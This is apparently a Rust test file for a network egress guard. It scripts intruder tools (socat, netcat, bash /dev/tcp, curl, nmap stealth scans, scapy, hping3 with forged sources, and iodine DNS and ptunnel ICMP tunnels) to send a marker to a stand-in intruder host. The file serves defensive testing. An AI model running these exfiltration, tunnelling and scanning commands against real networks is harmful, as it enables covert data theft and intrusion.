//! By the tools that an intruder would bring, as Debian has them.

use guard_tests::frame::{ICMP, Packet, UDP};

use crate::{
    attempt::{Act, Attempt, Expected, name},
    mark::{Sign, at, server},
    victim,
};

/// A tool's own exit status says nothing: what left does.
fn row(ipv6: bool, what: &str, command: &str) -> Attempt {
    let to = if ipv6 { "2001:db8:bad::9" } else { "203.0.113.9" };
    let bracketed = if ipv6 { "[2001:db8:bad::9]" } else { to };
    let command = command.replace("{to}", to).replace("{host}", bracketed).replace("{v}", if ipv6 { "6" } else { "4" });
    Attempt::out(
        name(ipv6, &format!("tool: {what}")),
        Act::Script(format!("{{ {command}; }} >/dev/null 2>&1 </dev/null || true")),
    )
}

pub fn all() -> Vec<Attempt> {
    let mut all = Vec::new();
    for ipv6 in [false, true] {
        socat(ipv6, &mut all);
        common(ipv6, &mut all);
        nmap(ipv6, &mut all);
        scapy(ipv6, &mut all);
    }
    hping(&mut all);
    tunnels(&mut all);
    all
}

fn socat(ipv6: bool, all: &mut Vec<Attempt>) {
    let text = "printf '{text}' | timeout 1 socat -t0 -";
    for (what, address) in [
        ("UDP", "UDP{v}:{host}:{port}"),
        ("UDP-SENDTO", "UDP{v}-SENDTO:{host}:{port}"),
        ("UDP-DATAGRAM", "UDP{v}-DATAGRAM:{host}:{port}"),
        ("UDP from port 53", "UDP{v}:{host}:{port},sourceport=53"),
        ("UDP by so-bindtodevice", "UDP{v}:{host}:{port},so-bindtodevice=eth0"),
        ("IP-SENDTO protocol 253", "IP{v}-SENDTO:{host}:253"),
        ("IP-DATAGRAM protocol 47", "IP{v}-DATAGRAM:{host}:47"),
        ("TCP", "TCP{v}:{host}:9001,connect-timeout=0.4"),
    ] {
        all.push(row(ipv6, &format!("socat {what}"), &format!("{text} {address}")));
    }
    all.push(
        row(ipv6, "socat OPENSSL", "timeout 1 socat -t0 - OPENSSL:{host}:{port},verify=0,connect-timeout=0.4")
            .sign(Sign::Port),
    );
    all.push(
        row(ipv6, "socat PROXY", "timeout 1 socat -t0 - PROXY:{host}:192.0.2.99:22,proxyport={port}").sign(Sign::Port),
    );
    all.push(
        row(ipv6, "socat SOCKS4", "timeout 1 socat -t0 - SOCKS4:{host}:192.0.2.99:22,socksport={port}")
            .sign(Sign::Port),
    );
    all.push(
        row(ipv6, "socat SCTP", &format!("{text} SCTP{{v}}:{{host}}:{{port}}")).expect(Expected::NotHere("no SCTP")),
    );
    all.push(
        row(ipv6, "socat DCCP", &format!("{text} DCCP{{v}}:{{host}}:{{port}}")).expect(Expected::NotHere("no DCCP")),
    );
    if !ipv6 {
        all.push(row(ipv6, "socat INTERFACE", "printf '\\002\\000\\000\\000\\000\\001\\002\\000\\000\\000\\000\\020\\210\\265{text}' | timeout 1 socat -t0 - INTERFACE:eth0"));
        all.push(row(
            ipv6,
            "socat UDP-DATAGRAM to broadcast",
            "printf '{text}' | timeout 1 socat -t0 - UDP4-DATAGRAM:192.0.2.255:{port},broadcast",
        ));
        all.push(row(
            ipv6,
            "socat UDP-DATAGRAM to a group",
            "printf '{text}' | timeout 1 socat -t0 - UDP4-DATAGRAM:239.1.1.1:{port},ip-multicast-ttl=9",
        ));
    }
}

fn common(ipv6: bool, all: &mut Vec<Attempt>) {
    all.push(row(ipv6, "nc -u", "printf '{text}' | timeout 0.5 nc -u -w1 {to} {port}"));
    all.push(row(ipv6, "nc", "timeout 0.5 nc -w1 {to} {port}").sign(Sign::Port));
    all.push(row(ipv6, "nc from port 53", "timeout 0.5 nc -p 53 -w1 {to} {port}").sign(Sign::Port));
    all.push(row(ipv6, "curl", "curl -sg --noproxy '*' -m 0.5 http://{host}:{port}/").sign(Sign::Port));
    all.push(row(ipv6, "curl, a whole request", "curl -sg --noproxy '*' -m 0.5 http://{host}:9001/{text}"));
    all.push(row(ipv6, "curl by tftp", "curl -sg --noproxy '*' -m 0.5 tftp://{host}:{port}/{text}"));
    all.push(row(ipv6, "dig", "dig +tries=1 +time=1 -p {port} @{to} a.test").sign(Sign::Port));
    all.push(row(ipv6, "dig by tcp", "dig +tcp +tries=1 +time=1 -p {port} @{to} a.test").sign(Sign::Port));
    all.push(row(ipv6, "bash /dev/udp", "bash -c 'printf {text} >/dev/udp/{to}/{port}'"));
    all.push(row(ipv6, "bash /dev/tcp", "timeout 0.5 bash -c 'printf {text} >/dev/tcp/{to}/9001'"));
    // The pattern is the mark, in hexadecimal.
    all.push(row(ipv6, "ping", "ping -c1 -W1 -s 60 -p $(printf '{text}' | od -An -tx1 | tr -d ' \\n') {to}"));
}

fn nmap(ipv6: bool, all: &mut Vec<Attempt>) {
    let six = if ipv6 { "-6 " } else { "" };
    let base = format!("nmap {six}-n -Pn --max-retries 0 --host-timeout 2s --disable-arp-ping -p {{port}}");
    for (what, option) in [
        ("SYN", "-sS"),
        ("connect", "-sT"),
        ("ACK", "-sA"),
        ("window", "-sW"),
        ("Maimon", "-sM"),
        ("null", "-sN"),
        ("FIN", "-sF"),
        ("Xmas", "-sX"),
        ("UDP", "-sU"),
        ("UDP with data", "-sU --data-length 20"),
        ("from port 53", "-sS -g 53"),
    ] {
        all.push(row(ipv6, &format!("nmap {what} scan"), &format!("{base} {option} {{to}}")).sign(Sign::Port));
    }
    let to = if ipv6 { "2001:db8:2::10" } else { "192.0.2.10" };
    // What is answered tells: the scan's own port is the mark.
    for (what, option) in [("SYN", "-sS"), ("ACK", "-sA"), ("FIN", "-sF"), ("UDP", "-sU --data-string 01234567")] {
        let port = if what == "FIN" { 6999 } else { victim::PORT };
        let (option, port) = (option.to_owned(), port.to_string());
        all.push(
            Attempt::into_host(
                name(ipv6, &format!("tool: nmap {what} scan")),
                Act::Outside(Box::new(move |scene, mark| {
                    let mut command = scene.world.intruder.command("nmap");
                    if ipv6 {
                        command.arg("-6");
                    }
                    command.args(["-n", "-Pn", "--max-retries", "0", "--host-timeout", "2s", "-p", &port]);
                    command.args(["-g", &mark.port().to_string()]).args(option.split(' ')).arg(to);
                    guard_tests::process::run(&mut command, std::time::Duration::from_secs(10))?;
                    Ok(())
                })),
            )
            .sign(Sign::Port),
        );
    }
}

fn scapy(ipv6: bool, all: &mut Vec<Attempt>) {
    let layer = if ipv6 { "IPv6(dst='2001:db8:bad::9')" } else { "IP(dst='203.0.113.9')" };
    // All of them at once: what takes time is to load it. Every one carries the same mark, so each is a row of its own
    // only in what it sends, and one that passes is enough.
    let packets = if ipv6 {
        "[l/IPv6ExtHdrDestOpt()/u, l/IPv6ExtHdrHopByHop()/u, l/IPv6ExtHdrRouting(addresses=['2001:db8:17::7'])/u, \
          l/IPv6ExtHdrFragment(m=1,id=7)/u, l/GRE()/l/u, l/IP(dst='203.0.113.9')/u, l/ICMPv6EchoRequest(data=t), \
          l/ICMPv6Unknown(type=200)/t, l/SCTP()/t]"
    } else {
        "[l/GRE()/l/u, l/l/u, l/ICMP(type=13)/t, l/ICMP(type=3)/l/u, l/SCTP()/t, IP(dst='203.0.113.9',proto=89)/t, \
          IP(dst='203.0.113.9',options=[IPOption_RR()])/u, IP(dst='203.0.113.9',flags='MF',id=7)/u, l/ESP(spi=1)/t]"
    };
    let program = format!(
        "import logging; logging.getLogger(\"scapy.runtime\").setLevel(50)\nfrom scapy.all import *\nl={layer}; \
         t=b\"{{text}}\"; u=UDP(sport=4000,dport={{port}})/Raw(t)\ne=Ether(dst=\"02:00:00:00:00:01\",src=\"02:00:00:00:00:10\")\n\
         for p in {packets}: sendp(e/p,iface=\"eth0\",verbose=0)\n\
         for p in [e/Dot1Q(vlan=7)/l/u, e/Dot1AD(vlan=7)/Dot1Q(vlan=8)/l/u, e/LLC()/SNAP()/t]: sendp(p,iface=\"eth0\",verbose=0)\n"
    )
    .replace('\'', "\"");
    all.push(row(ipv6, "scapy, a dozen packets", &format!("/usr/bin/python3 -c '{program}'")));
}

fn hping(all: &mut Vec<Attempt>) {
    for (what, options) in [
        ("udp", "--udp -p {port} -e '{text}' -d 20"),
        ("icmp", "--icmp -e '{text}' -d 20"),
        ("raw protocol 200", "--rawip -H 200 -e '{text}' -d 20"),
        ("SYN with data", "-S -p {port} -e '{text}' -d 20"),
        ("ACK with data", "-A -p {port} -e '{text}' -d 20"),
        ("FIN PSH URG with data", "-F -P -U -p {port} -e '{text}' -d 20"),
        ("fragments", "--udp -p {port} -f -m 32 -e '{text}' -d 100"),
        ("from a forged address", "--udp -p {port} -a 198.51.100.99 -e '{text}' -d 20"),
        ("from port 53", "--udp -s 53 -k -p {port} -e '{text}' -d 20"),
    ] {
        let command = format!("timeout 2 hping3 -n -q -c 1 -i u1000 {options} {{to}}");
        all.push(row(false, &format!("hping3 {what}"), &command));
    }
}

fn tunnels(all: &mut Vec<Attempt>) {
    fn to_intruder_port_53(packet: &Packet) -> bool {
        packet.protocol == UDP
            && packet.destination == std::net::IpAddr::from(at::INTRUDER_V4)
            && packet.destination_port == 53
    }
    fn to_router_tunnelled(packet: &Packet) -> bool {
        packet.protocol == UDP
            && packet.destination_port == 53
            && packet.payload.windows(5).any(|part| part == b"\x01t\x04te" || part == b"tunne")
    }
    fn echo_to_intruder(packet: &Packet) -> bool {
        packet.protocol == ICMP
            && packet.source == server(false)
            && packet.destination == std::net::IpAddr::from(at::INTRUDER_V4)
            && packet.source_port == 8
            && packet.payload.windows(4).any(|part| part == [0xd5, 0x20, 0x08, 0x80])
    }
    all.push(
        row(false, "iodine, straight to its server", "timeout 1 iodine -f -r -P x 203.0.113.9 tunnel.test")
            .sign(Sign::Packet(to_intruder_port_53)),
    );
    all.push(
        row(false, "iodine, by the listed resolver", "timeout 1 iodine -f -r -P x 192.0.2.1 tunnel.test")
            .sign(Sign::Packet(to_router_tunnelled))
            .expect(Expected::Allowed("DNS is listed to this resolver, and what it asks in turn is its own affair")),
    );
    all.push(
        row(
            false,
            "ptunnel",
            "timeout 2 ptunnel -p 203.0.113.9 -lp 8000 -da 203.0.113.9 -dp 22 & sleep 0.4; timeout 0.8 nc 127.0.0.1 8000; sleep 0.3",
        )
        .sign(Sign::Packet(echo_to_intruder)),
    );
}
